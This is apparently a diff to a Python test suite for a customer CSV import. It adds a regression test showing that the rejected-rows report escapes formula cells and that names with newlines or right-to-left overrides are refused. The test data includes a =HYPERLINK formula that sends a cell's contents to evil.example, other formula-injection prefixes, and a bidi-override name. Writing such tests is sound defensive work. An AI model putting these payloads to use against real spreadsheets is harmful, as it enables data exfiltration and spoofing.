@@ -289,7 +289,7 @@ def test_a_csv_import_takes_the_good_rows_and_reports_the_bad(cg: Cg, tmp_path: 
     assert rows == [
         ["row", "customer_id", "reason"],
         ["3", "imp-2", "name: missing"],
-        ["4", "imp-3", "email 'not-an-email': not an email address"],
+        ["4", "imp-3", "email 'not-an-email': an email address has exactly one @"],
         ["5", "imp-1", "duplicate: customer_id imp-1 is also on row 2"],
         ["6", "imp-4", "duplicate: email BOB@example.org is also on row 2"],
         [
@@ -303,6 +303,48 @@ def test_a_csv_import_takes_the_good_rows_and_reports_the_bad(cg: Cg, tmp_path: 
     assert shown.json()["customer"]["emails"] == ["flo@example.org", "flo.2@example.org"]
     bob = cg("customer", "show", "imp-1", "--json").json()["customer"]
     assert bob["address"] == {"lines": ["2 Low Street", "Derby"], "postcode": "DE1 2AA"}
+
+
+def test_a_csv_import_report_never_runs_a_formula_and_names_stay_one_line(
+    cg: Cg, tmp_path: Path
+) -> None:
+    """Issue 14, finding 8: cells such as =HYPERLINK(...) were written to the report as
+    given, for a spreadsheet to run; a newline or a right-to-left override in a name reached
+    the letter's address block."""
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
+    source = tmp_path / "hostile.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["customer_id", "name", "emails"])
+        writer.writerows(
+            [
+                [hyperlink, "Mallory", ""],
+                ["+SUM(1;2)", "Mallory", ""],
+                ["-2+3", "Mallory", ""],
+                ["@SUM(1)", "Mallory", ""],
+                ["inj-1", "Ada\nTenant", ""],
+                ["inj-2", "Ada \u202eTenant", ""],
+                ["inj-3", "Bob Tenant", "bob@example.org,spy@evil.example"],
+                ["inj-4", "Cy Tenant", "cy@example.org"],
+            ]
+        )
+    result = cg("import", "customers", str(source))
+    assert result.code == 1
+    report = tmp_path / "hostile.rejected.csv"
+    with report.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == ["row", "customer_id", "reason"]
+    assert [row[1] for row in rows[1:5]] == [f"'{hyperlink}", "'+SUM(1;2)", "'-2+3", "'@SUM(1)"]
+    for row in rows[1:]:
+        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert not row[2].startswith(("=", "+", "-", "@", "\t", "\r"))
+    by_id = {row[1]: row[2] for row in rows[5:]}
+    assert "rule single-line" in by_id["inj-1"]
+    assert "bidirectional" in by_id["inj-2"]
+    assert "no commas or semicolons" in by_id["inj-3"]
+    assert cg("customer", "show", "inj-4", "--json").code == 0  # the good row went in
+    for refused in ("inj-1", "inj-2", "inj-3"):
+        assert cg("customer", "show", refused, "--json").code == 1
 
 
 def test_a_csv_without_a_name_column_is_a_usage_error(cg: Cg, tmp_path: Path) -> None:
